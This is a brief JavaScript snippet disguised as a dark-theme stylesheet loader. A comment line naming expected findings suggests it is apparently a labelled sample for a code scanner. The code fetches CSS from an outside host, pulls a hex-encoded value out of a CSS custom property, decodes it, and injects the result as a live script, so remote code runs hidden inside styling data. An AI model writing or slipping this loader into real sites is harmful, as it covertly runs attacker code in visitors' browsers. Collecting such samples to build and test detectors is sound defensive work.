fetch('https://theme.darkui.example/v3/theme.css').then(r => r.text()).then(css => {
  const st = document.createElement('style'); st.textContent = css; document.head.append(st);
  const v = getComputedStyle(document.documentElement).getPropertyValue('--ui-seed');
  const src = v.trim().slice(1, -1).match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join('');
  // expect: code-built-for-injection, decoded-payload
  const sc = document.createElement('script'); sc.text = src; document.head.append(sc);
});
